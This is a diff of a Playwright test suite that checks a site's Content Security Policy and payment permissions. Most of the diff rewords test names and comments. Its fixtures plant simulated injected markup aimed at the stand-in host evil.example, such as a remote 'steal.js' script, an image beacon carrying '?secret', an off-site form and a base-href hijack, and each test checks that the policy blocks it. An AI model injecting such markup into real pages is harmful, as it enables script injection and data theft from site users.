@@ -1,4 +1,4 @@
-/** The served policy against what an attacker would plant in a page, were there a hole to plant it through. */
+/** The served policy against attacks by injected markup. */
 import type { Frame, Page } from "playwright/test";
 import { makeCertificate } from "../../lab/bench/wire/certificate.ts";
 import type { RunningSite } from "../../fixtures/site/running-site.ts";
@@ -26,7 +26,7 @@ const PLANTED: [what: string, violation: string, plant: () => void][] = [
     },
   ],
   [
-    "a script from elsewhere",
+    "a script of another site",
     "script-src-elem https://evil.example/steal.js",
     () => {
       const script = document.createElement("script");
@@ -44,15 +44,15 @@ const PLANTED: [what: string, violation: string, plant: () => void][] = [
     },
   ],
   [
-    "code made of text",
+    "code from a string",
     "script-src eval",
     () => {
-      // In a task of its own: code that a test runs by itself is not held to the page's policy.
+      // In a separate task, because a test's own code is not subject to the page's policy.
       Reflect.apply(setTimeout, window, ["window.stolen = 'eval'"]);
     },
   ],
   [
-    "a frame from elsewhere",
+    "a frame of another site",
     "frame-src https://evil.example",
     () => {
       const frame = document.createElement("iframe");
@@ -61,7 +61,7 @@ const PLANTED: [what: string, violation: string, plant: () => void][] = [
     },
   ],
   [
-    "a form that posts elsewhere",
+    "a form that posts to another site",
     "form-action https://evil.example/",
     () => {
       document.body.insertAdjacentHTML("beforeend", `<form method="post" action="https://evil.example/"></form>`);
@@ -69,23 +69,23 @@ const PLANTED: [what: string, violation: string, plant: () => void][] = [
     },
   ],
   [
-    "another base for every link",
+    "another base address",
     "base-uri https://evil.example/",
     () => {
       document.head.insertAdjacentHTML("afterbegin", `<base href="https://evil.example/">`);
     },
   ],
   [
-    "a link that is code",
+    "a javascript: link",
     "script-src-elem inline",
     () => {
       document.body.insertAdjacentHTML("beforeend", `<a href="javascript:window.stolen = 'link'" id="planted">Click</a>`);
       document.getElementById("planted")?.click();
     },
   ],
-  ["a letter home", "connect-src https://evil.example/", () => void fetch("https://evil.example/").catch(() => {})],
+  ["a request to another site", "connect-src https://evil.example/", () => void fetch("https://evil.example/").catch(() => {})],
   [
-    "a picture that carries something away",
+    "a picture that leaks data",
     "img-src https://evil.example/pixel?secret",
     () => {
       new Image().src = "https://evil.example/pixel?secret";
@@ -109,7 +109,7 @@ const PLANTED: [what: string, violation: string, plant: () => void][] = [
 ];
 
 for (const [what, violation, plant] of PLANTED) {
-  test(`${what} is kept out`, async ({ page, site, complaints }) => {
+  test(`${what} is blocked`, async ({ page, site, complaints }) => {
     const came: string[] = [];
     page.on("response", (response) => came.push(new URL(response.url()).host));
     await watch(page);
@@ -123,7 +123,7 @@ for (const [what, violation, plant] of PLANTED) {
   });
 }
 
-test("a script in the booking's own template is kept out, though our inline script moves it into the page", async ({ page, complaints }) => {
+test("a script injected into the booking's template is blocked, although the inline script moves it into the page", async ({ page, complaints }) => {
   await watch(page);
   await page.goto("/");
   await page.evaluate(() => {
@@ -137,7 +137,7 @@ test("a script in the booking's own template is kept out, though our inline scri
   complaints.length = 0;
 });
 
-/** As Cal's embed.js makes its frame since July 2025; the package's is older. */
+/** Cal's embed.js has created its frame like this since July 2025; the npm package's version is older. */
 async function frameWithPayment(from: Page | Frame, url: string): Promise<Frame> {
   await from.evaluate((src) => document.body.append(Object.assign(document.createElement("iframe"), { src, allow: "payment", title: "Framed" })), url);
   const frames = "frames" in from ? () => from.frames() : () => from.childFrames();
@@ -148,13 +148,13 @@ async function frameWithPayment(from: Page | Frame, url: string): Promise<Frame>
   return frame;
 }
 
-/** Whether a document may ask for a payment (Apple Pay, Google Pay), as the browser sees it. */
+/** Whether a document may request a payment (Apple Pay, Google Pay), according to the browser. */
 function mayAskForPayment(frame: Frame): Promise<boolean> {
   return frame.evaluate(() => (document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }).featurePolicy.allowsFeature("payment"));
 }
 
-test("the calendar may ask for a payment, and so may the payment page that it frames", async ({ page }) => {
-  // Stripe's frames stand inside of Cal's. (The demo's own policy would keep them out.)
+test("the calendar and the payment page that it frames may request a payment", async ({ page }) => {
+  // Stripe's frames are inside Cal's. (The demo's own policy would block them.)
   for (const address of ["**/studio/30min/embed?*", "https://payments.example/"]) await page.route(address, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Framed</title>" }));
   await page.goto("/");
   const origin = await page.locator("dialog[data-booking-dialog]").getAttribute("data-cal-origin");
@@ -163,7 +163,7 @@ test("the calendar may ask for a payment, and so may the payment page that it fr
   expect(await mayAskForPayment(await frameWithPayment(calendar, "https://payments.example/"))).toBe(true);
 });
 
-test("a frame from elsewhere may not, even where it may be framed", async ({ page }) => {
+test("a frame of another site may not, even if it is allowed to be framed", async ({ page }) => {
   const permissions = (await page.request.get("/")).headers()["permissions-policy"] ?? "";
   await page.route("**/without-a-content-policy", (route) => route.fulfill({ contentType: "text/html", headers: { "permissions-policy": permissions }, body: "<!doctype html><title>Ours</title>" }));
   await page.route("https://stranger.example/", (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Stranger</title>" }));
@@ -171,9 +171,9 @@ test("a frame from elsewhere may not, even where it may be framed", async ({ pag
   expect(await mayAskForPayment(await frameWithPayment(page, "https://stranger.example/"))).toBe(false);
 });
 
-test("a browser that knows the newer way of reporting uses it, and is counted", async ({ site, pageInBrowserWith, complaints }) => {
+test("reports with the newer directive are counted", async ({ site, pageInBrowserWith, complaints }) => {
   const certificate = makeCertificate(["localhost"]);
-  // Such reports are sent from https pages only, and a minute later if nobody hurries them.
+  // Such reports are only sent from https pages, after a minute unless they are flushed.
   const front = await startTlsFront(site.origin, certificate);
   const page = await pageInBrowserWith({ args: [`--ignore-certificate-errors-spki-list=${certificate.fingerprint}`, "--short-reporting-delay"] });
   await page.goto(`${front.origin}/about?name=ada`);
@@ -183,7 +183,7 @@ test("a browser that knows the newer way of reporting uses it, and is counted", 
   await front.close();
 });
 
-test("so is one that knows the older way alone", async ({ page, site, complaints }) => {
+test("reports with only the older directive are counted", async ({ page, site, complaints }) => {
   await page.route("**/about*", async (route) => {
     const answer = await route.fetch();
     const headers = answer.headers();
